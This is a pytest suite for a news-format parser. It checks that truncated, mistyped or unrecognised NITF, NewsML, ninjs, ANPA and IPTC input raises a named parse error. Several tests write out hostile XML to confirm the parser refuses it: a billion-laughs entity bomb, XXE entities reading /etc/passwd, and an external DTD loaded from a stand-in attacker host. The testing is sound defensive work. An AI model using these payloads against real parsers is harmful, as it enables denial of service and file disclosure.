"""Bad input: every case becomes a ParseError (or an ItemFailure in a package) naming the format and problem."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from transforms.formats import parse_bytes
from transforms.formats.detect import detect_format
from transforms.model import DeadLetterReason, ItemFailure, ParsedItem, ParseError

DATA = Path(__file__).parent / "data" / "formats"

NITF_OK = (
    b'<?xml version="1.0"?>\n{doctype}<nitf><head><title>T</title></head><body><body.head><hedline>'
    b"<hl1>{headline}</hl1></hedline></body.head><body.content><p>Body text.</p></body.content></body></nitf>"
)


def _nitf(headline: bytes = b"Headline", doctype: bytes = b"") -> bytes:
    return NITF_OK.replace(b"{doctype}", doctype).replace(b"{headline}", headline)


def _error(data: bytes, **kwargs) -> ParseError:
    with pytest.raises(ParseError) as raised:
        parse_bytes(data, **kwargs)
    return raised.value


# -- XML ------------------------------------------------------------------------


@pytest.mark.parametrize("name, fmt", [
    ("nitf_story.xml", "nitf"), ("newsml_g2_message.xml", "newsml_g2"), ("newsml_1x_two_items.xml", "newsml_1x")])
@pytest.mark.parametrize("fraction", [0.3, 0.6, 0.99])
def test_truncated_xml(name, fmt, fraction):
    data = (DATA / name).read_bytes()
    error = _error(data[: int(len(data) * fraction)])
    assert error.reason == DeadLetterReason.MALFORMED
    assert error.format == fmt
    assert str(error).startswith(f"{fmt}: truncated XML")


def test_xml_of_another_vocabulary_is_unrecognised():
    rss = b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>T</title></item></channel></rss>'
    assert detect_format(rss) is None
    assert _error(rss).reason == DeadLetterReason.UNRECOGNISED_FORMAT
    # named by a hint, the parser says what is wrong with it
    error = _error(rss, hint="nitf")
    assert error.reason == DeadLetterReason.UNRECOGNISED_FORMAT
    assert str(error) == "nitf: root element is <rss>, not <nitf>"
    not_g2 = b"<newsItem guid='x'><contentMeta><headline>H</headline></contentMeta></newsItem>"
    assert detect_format(not_g2) is None  # a G2 root name without the G2 namespace
    error = _error(not_g2, hint="newsml_g2")
    assert error.format == "newsml_g2" and "namespace" in str(error)


def test_billion_laughs_is_refused():
    laughs = b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10)) if i else b"lol")
        for i in range(10))
    error = _error(_nitf(headline=b"&lol9;", doctype=b"<!DOCTYPE nitf [" + laughs + b"]>"))
    assert error.reason == DeadLetterReason.MALFORMED
    assert "nitf: refused XML with entity declarations" in str(error)


@pytest.mark.parametrize("fmt, template", [
    ("nitf", _nitf(headline=b"&xxe;", doctype=b'<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
    ("newsml_1x", b'<?xml version="1.0"?><!DOCTYPE NewsML [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
                  b"<NewsML><NewsItem><NewsComponent><NewsLines><HeadLine>&xxe;</HeadLine></NewsLines>"
                  b"</NewsComponent></NewsItem></NewsML>"),
    ("newsml_g2", b'<?xml version="1.0"?><!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
                  b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g"><contentMeta>'
                  b"<headline>&xxe;</headline></contentMeta></newsItem>"),
])
def test_external_entities_are_refused(fmt, template):
    error = _error(template)
    assert error.reason == DeadLetterReason.MALFORMED
    assert error.format == fmt
    assert "refused XML" in str(error)


def test_parameter_entity_doctype_is_dropped_but_entities_stay_undefined():
    doctype = b'<!DOCTYPE nitf [<!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext;]>'
    fmt, [story] = parse_bytes(_nitf(doctype=doctype))
    assert fmt == "nitf" and story.headline == "Headline"
    error = _error(_nitf(headline=b"&fromdtd;", doctype=doctype))
    assert error.reason == DeadLetterReason.MALFORMED and "undefined entity" in str(error)


def test_nitf_without_body_or_headline():
    empty_body = _nitf().replace(b"<p>Body text.</p>", b"")
    error = _error(empty_body)
    assert (error.reason, str(error)) == (DeadLetterReason.MISSING_BODY, "nitf: no text in <body.content>")
    no_headline = _nitf(headline=b"").replace(b"<title>T</title>", b"")
    _, [story] = parse_bytes(no_headline)  # reported as sent: enrichment derives a headline
    assert story.headline == "" and story.body_paragraphs == ("Body text.",)


# -- JSON -----------------------------------------------------------------------


def _ninjs(**fields) -> bytes:
    item = {"uri": "urn:test:1", "type": "text", "headline": "A headline", "body_text": "A body."}
    item.update(fields)
    return json.dumps({k: v for k, v in item.items() if v is not None}).encode()


def test_ninjs_missing_headline_or_body():
    _, [story] = parse_bytes(_ninjs(headline=None))  # reported as sent: enrichment derives a headline
    assert story.headline == "" and story.body_paragraphs == ("A body.",)
    error = _error(_ninjs(body_text=None))
    assert (error.reason, str(error)) == (DeadLetterReason.MISSING_BODY, "ninjs: urn:test:1: no body")


@pytest.mark.parametrize("fields, problem", [
    ({"headline": ["a", "list"]}, "field 'headline' must be a string, got list"),
    ({"urgency": "high"}, "field 'urgency' is not a number: 'high'"),
    ({"urgency": True}, "field 'urgency' must be an integer, got bool"),
    ({"headlines": {"value": "x"}, "headline": None}, "field 'headlines' must be an array, got dict"),
    ({"bodies": [{"value": 42}], "body_text": None}, "field 'bodies.value' must be a string, got int"),
    ({"type": 7}, "field 'type' must be a string, got int"),
    ({"version": {"n": 1}}, "field 'version' must be a string, got dict"),
])
def test_ninjs_wrong_types(fields, problem):
    error = _error(_ninjs(**fields))
    assert error.reason == DeadLetterReason.MALFORMED
    assert str(error) == f"ninjs: {problem}"


def test_ninjs_bad_item_in_array_keeps_good_sibling():
    good = json.loads(_ninjs())
    bad = json.loads(_ninjs(uri="urn:test:2", headline=5))
    fmt, results = parse_bytes(json.dumps([bad, good]).encode())
    assert fmt == "ninjs"
    assert isinstance(results[0], ItemFailure) and results[0].reason == DeadLetterReason.MALFORMED
    assert results[0].item_index == 0 and json.loads(results[0].raw)["uri"] == "urn:test:2"
    assert isinstance(results[1], ParsedItem) and results[1].item_index == 1


def test_truncated_and_invalid_json():
    data = _ninjs()
    error = _error(data[:-10])
    assert error.reason == DeadLetterReason.MALFORMED and str(error).startswith("ninjs: truncated JSON")
    error = _error(b'{"uri": "x", "headline": "h", "body_text": "b",, }')
    assert str(error).startswith("ninjs: invalid JSON")


def test_json_of_unknown_shape_is_unrecognised():
    assert detect_format(b'{"temperature": 21, "city": "Oslo"}') is None
    assert _error(b'{"temperature": 21}').reason == DeadLetterReason.UNRECOGNISED_FORMAT
    # named by a hint, the ninjs parser reports the missing fields
    error = _error(b'{"temperature": 21}', hint="ninjs")
    assert error.reason == DeadLetterReason.MISSING_BODY and error.format == "ninjs"


def test_ap_media_api_missing_headline_and_text():
    item = {"altids": {"itemid": "abc"}, "type": "text", "headline": "", "version": 1}
    error = _error(json.dumps({"api_version": "2.2", "data": {"item": item}}).encode())
    assert error.reason == DeadLetterReason.MISSING_BODY  # neither headline nor text
    # a body without a headline is reported as sent: enrichment derives a headline (issue 17)
    _, [story] = parse_bytes(json.dumps(
        {"api_version": "2.2", "data": {"item": dict(item, description_summary="The lead.")}}).encode())
    assert story.headline == "" and story.body_paragraphs == ("The lead.",)
    item["headline"] = "Headline only"
    error = _error(json.dumps({"api_version": "2.2", "data": {"item": item}}).encode())
    assert error.reason == DeadLetterReason.MISSING_BODY and "NITF rendition" in str(error)
    error = _error(json.dumps({"api_version": "2.2", "data": {"nothing": 1}}).encode())
    assert str(error) == "ap_media_api_json: 'data' holds no 'item' or 'items'"


# -- control-character formats --------------------------------------------------------


def test_anpa_without_end_marker():
    data = (DATA / "anpa_story.tst").read_bytes()
    truncated = data[: data.index(b"\x03")]
    error = _error(truncated)
    assert error.reason == DeadLetterReason.MALFORMED
    assert str(error) == "anpa1312: no ETX end-of-text marker (truncated message)"
    no_text = data[: data.index(b"\x02")]
    assert "no STX" in str(_error(no_text))


def test_anpa_stream_with_one_truncated_message_keeps_the_good_one():
    data = (DATA / "anpa_story.tst").read_bytes()
    stream = data + data[: data.index(b"\x03")]
    fmt, results = parse_bytes(stream)
    assert fmt == "anpa1312"
    assert isinstance(results[0], ParsedItem)
    assert isinstance(results[1], ItemFailure) and results[1].item_index == 1
    assert results[1].reason == DeadLetterReason.MALFORMED


def test_iptc7901_without_end_marker():
    data = (DATA / "iptc7901_story.txt").read_bytes()
    error = _error(data[: data.index(b"\x03")])
    assert (error.reason, str(error)) == (
        DeadLetterReason.MALFORMED, "iptc7901: no ETX end-of-text marker (truncated message)")


def test_reuters_element_without_text():
    element = b'<REUTERS NEWID="5"><DATE>1-MAR-1987 00:00:00.00</DATE></REUTERS>'
    fmt, results = parse_bytes(element)
    assert fmt == "reuters_sgml"
    assert results[0].reason == DeadLetterReason.MISSING_BODY
    assert results[0].error == "reuters_sgml: NEWID 5: no <TEXT> element"


# -- detection -------------------------------------------------------------------


def test_unknown_and_binary_input():
    assert detect_format(b"\x00\x01\x02binary\x00" * 20) is None
    assert _error(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)).reason == (
        DeadLetterReason.UNRECOGNISED_FORMAT)
    assert detect_format(b"   \n") is None
    assert detect_format(b"<html><body><p>page</p></body></html>") is None


def test_hints_and_file_names_for_text():
    text = b"Headline\n\nBody paragraph one.\n\nBody paragraph two."
    assert detect_format(text) == "plain_text"
    assert detect_format(text, hint="aap") == "aap_text"
    assert detect_format(text, hint="AAP text") == "aap_text"
    # a structured format needs its signature: a hint cannot make text into ninjs
    assert detect_format(text, hint="ninjs") == "plain_text"
    assert detect_format(text, filename="story.txt") == "plain_text"
    # content beats a wrong hint
    assert detect_format((DATA / "nitf_story.xml").read_bytes(), hint="ninjs") == "nitf"


def test_iptc7901_stream_with_a_truncated_message_keeps_the_good_one():
    data = (DATA / "iptc7901_story.txt").read_bytes()
    stream = data + b"\r\n" + data + data[: data.index(b"\x03")]
    fmt, results = parse_bytes(stream)
    assert fmt == "iptc7901"
    assert [type(r) for r in results] == [ParsedItem, ParsedItem, ItemFailure]
    assert [r.item_index for r in results] == [0, 1, 2]
    assert results[1].headline == results[0].headline
    assert results[2].reason == DeadLetterReason.MALFORMED


def test_g2_concept_set_is_not_a_story():
    concepts = (b'<conceptSet xmlns="http://iptc.org/std/nar/2006-10-01/"><concept><conceptId qcode="x:1"/>'
                b"<name>Thing</name></concept></conceptSet>")
    assert detect_format(concepts) == "newsml_g2"
    assert _error(concepts).reason == DeadLetterReason.NOT_A_STORY
